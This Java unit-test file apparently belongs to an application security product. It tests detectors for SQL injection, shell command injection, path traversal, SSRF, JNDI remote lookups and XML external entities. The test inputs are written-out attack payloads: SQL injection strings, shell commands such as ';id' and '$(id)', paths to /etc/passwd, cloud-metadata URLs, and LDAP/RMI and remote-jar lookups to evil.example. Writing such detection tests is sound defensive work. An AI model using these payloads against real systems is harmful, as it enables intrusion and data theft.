package io.bulwark.policy.sink;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNull;

import io.bulwark.policy.detect.sql.SqlDialect;
import java.util.List;
import org.junit.jupiter.api.Test;

class SinkChecksTest {

  private static List<RequestInputs.Input> inputs(String... values) {
    RequestInputs.Input[] all = new RequestInputs.Input[values.length];
    for (int i = 0; i < values.length; i++) {
      all[i] = RequestInputs.input("query.p" + i, values[i]);
    }
    return List.of(all);
  }

  private static String sql(String sql, SqlDialect dialect, String... values) {
    SinkFinding finding = SqlCheck.check(sql, dialect, inputs(values));
    return finding == null ? null : finding.finding.reason();
  }

  @Test
  void sqlInputInsideOneLiteralIsFine() {
    assertNull(sql("SELECT * FROM users WHERE name = 'O''Brien and co'", SqlDialect.ANSI, "O''Brien and co"));
    assertNull(sql("SELECT * FROM users WHERE id = 42", SqlDialect.ANSI, "42"));
    assertNull(sql("SELECT * FROM t WHERE amount > -5 ORDER BY t.name", SqlDialect.ANSI, "-5", "t.name"));
    assertNull(sql("SELECT * FROM t WHERE name = 'a; drop table'", SqlDialect.ANSI, "a; drop table"));
  }

  @Test
  void sqlInputThatBringsItsOwnStructureIsInjection() {
    assertEquals("sqli.comment",
        sql("SELECT * FROM u WHERE name = '\\'' OR 1=1 -- '", SqlDialect.MYSQL, "\\' OR 1=1 -- "),
        "the app doubled the quote, MySQL reads the backslash");
    assertEquals("sqli.token-structure",
        sql("SELECT * FROM users WHERE name = 'x' OR '1'='1'", SqlDialect.ANSI, "x' OR '1'='1"));
    assertEquals("sqli.token-structure", sql("SELECT * FROM users WHERE id = 1 OR 1=1", SqlDialect.ANSI, "1 OR 1=1"));
    assertEquals("sqli.comment", sql("SELECT * FROM users WHERE name = 'admin'--' AND pw = 'x'", SqlDialect.ANSI,
        "admin'--"));
    assertEquals("sqli.token-boundary", sql("SELECT * FROM t WHERE name = 'abc' '", SqlDialect.ANSI, "abc' "));
  }

  @Test
  void sqlDialectsReadQuotesTheirWay() {
    // MySQL: \' escapes the quote, so the input's own quote closes the string
    String mysql = "SELECT * FROM u WHERE name = 'x\\'' OR 1=1 -- '";
    assertEquals("sqli.comment", sql(mysql, SqlDialect.MYSQL, "x\\'' OR 1=1 -- "));
    assertNull(sql(mysql, SqlDialect.ANSI, "x\\'' OR 1=1 -- "),
        "in standard SQL the backslash is a plain character: the whole input stays inside one string");
    assertNull(sql("SELECT * FROM u WHERE name = 'a\\b'", SqlDialect.MYSQL, "a\\b"));
    // PostgreSQL dollar quoting: the input stays inside $$...$$
    assertNull(sql("SELECT $$it's a ' quote$$", SqlDialect.POSTGRESQL, "it's a ' quote"));
    assertEquals("sqli.token-structure",
        sql("SELECT $$x$$ || pg_sleep(1) || $$y$$", SqlDialect.POSTGRESQL, "x$$ || pg_sleep(1) || $$y"));
  }

  @Test
  void sqlSinkReadsTheStatementWithTheDetectorsLexer() {
    // PostgreSQL nests block comments: the input stays inside the application's comment
    assertNull(sql("SELECT 1 /* note /* x' OR '1'='1 */ still note */ FROM t", SqlDialect.POSTGRESQL,
        "x' OR '1'='1"));
    // MySQL runs the content of /*! ... */: an input there changes the statement
    assertEquals("sqli.token-structure", sql("SELECT * FROM t WHERE id = 1 /*!UNION SELECT pw FROM u*/",
        SqlDialect.MYSQL, "1 /*!UNION SELECT pw FROM u*/"));
    // H2 and MySQL quote names with backticks; a keyword used as a column name is still a name
    assertNull(sql("SELECT `order`.user FROM `order`", SqlDialect.H2, "`order`.user"));
    // prefixed literals are one string: N'...', E'...' (PostgreSQL, with backslash escapes)
    assertNull(sql("SELECT * FROM t WHERE name = N'a '' b'", SqlDialect.ANSI, "a '' b"));
    assertNull(sql("SELECT * FROM t WHERE name = E'x\\' OR 1=1 --'", SqlDialect.POSTGRESQL, "x\\' OR 1=1 --"),
        "in E'...' the backslash escapes the quote");
    assertEquals("sqli.comment", sql("SELECT * FROM t WHERE name = 'x\\' OR 1=1 --'", SqlDialect.POSTGRESQL,
        "x\\' OR 1=1 --"), "in a plain PostgreSQL string it does not");
    // operators of two characters are one token, as the database reads them
    assertNull(sql("SELECT * FROM t WHERE price >= 5", SqlDialect.ANSI, ">="));
  }

  private static String command(String[] command, String... values) {
    SinkFinding finding = CommandCheck.check(command, inputs(values));
    return finding == null ? null : finding.finding.reason();
  }

  @Test
  void commandInputInShellScript() {
    assertNull(command(new String[] {"/bin/sh", "-c", "ping -c 1 example.com"}, "example.com"));
    assertNull(command(new String[] {"/bin/sh", "-c", "echo 'a; b'"}, "a; b"));
    assertEquals("cmdi.metacharacter", command(new String[] {"/bin/sh", "-c", "ping -c 1 x;id"}, "x;id"));
    assertEquals("cmdi.substitution", command(new String[] {"sh", "-c", "echo \"$(id)\""}, "$(id)"));
    assertEquals("cmdi.quote", command(new String[] {"bash", "-c", "echo 'x'; id; echo ''"}, "x'; id; echo '"));
  }

  @Test
  void shellScriptIsReadWithTheDetectorsLexerInPosixRules() {
    // escaped metacharacters stay literal; inside double quotes only substitutions are syntax
    assertNull(command(new String[] {"sh", "-c", "echo x\\;id"}, "x\\;id"));
    assertNull(command(new String[] {"sh", "-c", "echo \"a; b | c\""}, "a; b | c"));
    assertEquals("cmdi.substitution", command(new String[] {"sh", "-c", "echo \"\\a`id`\""}, "\\a`id`"));
    // a caret escapes nothing in a POSIX shell (it does in cmd.exe, which the detectors also read)
    assertEquals("cmdi.metacharacter", command(new String[] {"sh", "-c", "echo x^;id"}, "x^;id"));
    assertEquals("cmdi.metacharacter", command(new String[] {"sh", "-c", "cat x>/tmp/y"}, "x>/tmp/y"));
    // a no-break space is part of a word to the shell: no new argument
    assertNull(command(new String[] {"sh", "-c", "echo a\u00a0b"}, "a\u00a0b"));
    assertEquals("cmdi.new-argument", command(new String[] {"sh", "-c", "rm -rf"}, " -rf"));
    assertEquals("cmdi.new-argument", command(new String[] {"sh", "-c", "ls a\u000b-la"}, "a\u000b-la"));
  }

  @Test
  void commandInputAsArguments() {
    assertNull(command(new String[] {"ping", "-c", "1", "example.com"}, "example.com"));
    assertEquals("cmdi.new-argument", command(new String[] {"ping", "-c", "1", "127.0.0.1", "-f"}, "127.0.0.1 -f"));
    assertEquals("cmdi.option", command(new String[] {"git", "log", "--output=/tmp/x"}, "--output=/tmp/x"));
    assertNull(command(new String[] {"tool", "-5"}, "-5"));
  }

  private static String file(String path, String... values) {
    SinkFinding finding = FileCheck.check(path, inputs(values));
    return finding == null ? null : finding.finding.reason();
  }

  @Test
  void fileTraversalOutOfTheDirectoryMeant() {
    assertNull(file("/srv/files/report.pdf", "report.pdf"));
    assertNull(file("/srv/files/a/../b.txt", "a/../b.txt"));
    assertEquals("path.traversal", file("/srv/files/../../etc/passwd", "../../etc/passwd"));
    assertEquals("path.traversal", file("uploads/..\\..\\secret", "..\\..\\secret"));
    assertEquals("path.sensitive-file", file("/etc/passwd", "/etc/passwd"));
    assertNull(file("/tmp/upload-1.txt", "/tmp/upload-1.txt"));
  }

  @Test
  void internalAddressesInEverySpelling() {
    assertEquals("loopback", InternalAddresses.classifyHost("2130706433", false));
    assertEquals("loopback", InternalAddresses.classifyHost("0x7f.1", false));
    assertEquals("loopback", InternalAddresses.classifyHost("0177.0.0.1", false));
    assertEquals("loopback", InternalAddresses.classifyHost("[::ffff:127.0.0.1]", false));
    assertEquals("metadata", InternalAddresses.classifyHost("169.254.169.254", false));
    assertEquals("metadata", InternalAddresses.classifyHost("[::ffff:a9fe:a9fe]", false));
    assertEquals("private", InternalAddresses.classifyHost("10.1.2.3", false));
    assertEquals("private", InternalAddresses.classifyHost("[fd00::1]", false));
    assertEquals("loopback", InternalAddresses.classifyHost("localhost", false));
    assertNull(InternalAddresses.classifyHost("93.184.216.34", false));
    assertNull(InternalAddresses.classifyHost("example.com", false));
  }

  private static String url(String url, String... values) {
    SinkFinding finding = UrlCheck.checkUrl(url, inputs(values), HostAllowList.NONE);
    return finding == null ? null : finding.finding.reason();
  }

  @Test
  void urlsSteeredByInput() {
    assertEquals("ssrf.metadata",
        url("http://169.254.169.254/latest/meta-data/", "http://169.254.169.254/latest/meta-data/"));
    assertEquals("ssrf.internal-address", url("http://2130706433:8080/admin", "2130706433:8080"));
    assertEquals("ssrf.scheme", url("file:///etc/passwd", "file:///etc/passwd"));
    assertNull(url("http://127.0.0.1:9/search?q=abc", "abc"), "an input in the query does not steer the host");
    assertNull(url("http://93.184.216.34/x", "93.184.216.34"));
    assertNull(url("http://10.0.0.5/api/users/10", "10"), "an input found inside a fixed internal host chose nothing");
    assertEquals("ssrf.internal-address", url("http://10.0.0.5:8080/x", "10.0.0.5"));
    assertNull(UrlCheck.checkUrl("http://127.0.0.1/x", inputs("127.0.0.1"), HostAllowList.parse(List.of("127.0.0.1"))));
  }

  @Test
  void onlyOccurrencesInTheSchemeOrAuthoritySteer() {
    // the first occurrence (the user info) chose nothing, the second is the whole host
    assertEquals("ssrf.internal-address", url("http://10.0.0.5@10.0.0.5/", "10.0.0.5"));
    assertNull(url("http://api.example.com/10.0.0.5", "10.0.0.5"), "found in the path only");
    // a class loader's URL: inputs found only in its long path never steer it
    assertNull(url("jar:nested:/srv/app.jar/!BOOT-INF/lib/api-hello.jar!/api/Hello.class", "api", "hello"));
    assertEquals("ssrf.scheme", url("jar:http://evil.example/x.jar!/a.class", "jar:http://evil.example/x.jar"));
  }

  @Test
  void jndiAndXml() {
    assertEquals("jndi.remote-lookup",
        JndiCheck.check("ldap://evil.example/a", inputs("${jndi:ldap://evil.example/a}")).finding.reason());
    assertEquals("jndi.remote-lookup",
        JndiCheck.check("rmi://evil.example:1099/a", inputs("evil.example:1099")).finding.reason());
    assertNull(JndiCheck.check("java:comp/env/jdbc/db", inputs("jdbc/db")));
    assertNull(JndiCheck.check("ldap://directory.internal/ou=people", inputs("people")));
    assertEquals("xxe.external-entity", XmlCheck.check(
        "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>").finding.reason());
    assertEquals("xxe.external-dtd", XmlCheck.check("<!DOCTYPE r SYSTEM \"http://evil/x.dtd\"><r/>").finding.reason());
    assertNull(XmlCheck.check("<?xml version=\"1.0\"?><r><a>1</a></r>"));
  }

  @Test
  void aSocketToAHostAnInputNamedIsCheckedOnItsAddress() throws Exception {
    java.net.InetAddress loopback = java.net.InetAddress.getByName("127.0.0.1");
    assertEquals("ssrf.internal-address", UrlCheck.checkConnect("db.internal", loopback,
        inputs("http://db.internal:5432/"), HostAllowList.NONE, false).finding.reason());
    assertNull(UrlCheck.checkConnect("db", loopback, inputs("feedback"), HostAllowList.NONE, false),
        "a word containing the host's name does not name it");
    assertNull(UrlCheck.checkConnect("db", loopback, inputs("a"), HostAllowList.NONE, false));
  }
}
